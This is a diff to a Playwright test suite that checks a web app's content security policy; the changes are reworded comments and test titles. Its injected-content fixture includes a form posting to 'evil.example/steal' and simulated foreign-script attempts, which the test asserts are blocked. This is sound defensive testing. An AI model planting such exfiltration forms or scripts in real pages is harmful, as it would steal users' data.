@@ -3,11 +3,11 @@ import { readFileSync } from 'node:fs';
 import { areas } from '../support/screenUrls';
 import { expect, test } from '../support/fixtures';
 
-// That there is no violation anywhere is checked in every test: the fixture `guarded` makes an error of each.
+// Every test checks that there is no violation: the fixture `guarded` makes an error of each.
 
 for (const { name, account, urls } of areas) {
   test(
-    `the ${name} screens open without a violation of the content security policy, from scripts of the manifest alone`,
+    `the ${name} screens open without a violation of the content security policy, with scripts of the manifest only`,
     { tag: '@nightly' },
     async ({ page, login }) => {
       test.setTimeout(120_000);
@@ -23,7 +23,7 @@ for (const { name, account, urls } of areas) {
               const hash = createHash('sha384').update(body).digest('base64');
               if (shipped[pathname.slice(1)] !== `sha384-${hash}`) odd.push(pathname);
             },
-            // The page was left before the script had come.
+            // The page was closed before the script had arrived.
             () => undefined,
           ),
         );
@@ -55,7 +55,7 @@ const injected = `
   <form id="trap" action="https://evil.example/steal" method="post"><input name="a"></form>
 `;
 
-/** What a script of somebody else would try. In a turn of the page's own: what tools of developers run is let through. */
+/** What a foreign script could try. It runs in a task of the page itself, because scripts of developer tools are allowed. */
 const attempts = `
   new Promise((resolve) => setTimeout(() => {
     const link = document.createElement('a');
@@ -73,7 +73,7 @@ const attempts = `
     resolve();
   }))`;
 
-test('what somebody puts into the page on its way does not run, load or send anything, and the product works all the same', async ({
+test('content that an attacker adds to the page does not run, load or send anything, and the product still works', async ({
   page,
   login,
   complaints,
@@ -94,7 +94,7 @@ test('what somebody puts into the page on its way does not run, load or send any
   expect(await page.evaluate(() => Reflect.get(window, 'attacked') as unknown)).toBeUndefined();
   expect(page.url()).toMatch(/user_admin_countries$/);
   expect(loaded.filter((url) => url.includes('evil.example'))).toEqual([]);
-  const said = complaints.splice(0).join('\n');
+  const reported = complaints.splice(0).join('\n');
   for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'object-src', 'base-uri'])
-    expect(said).toContain(`CSP: ${directive} blocked`);
+    expect(reported).toContain(`CSP: ${directive} blocked`);
 });
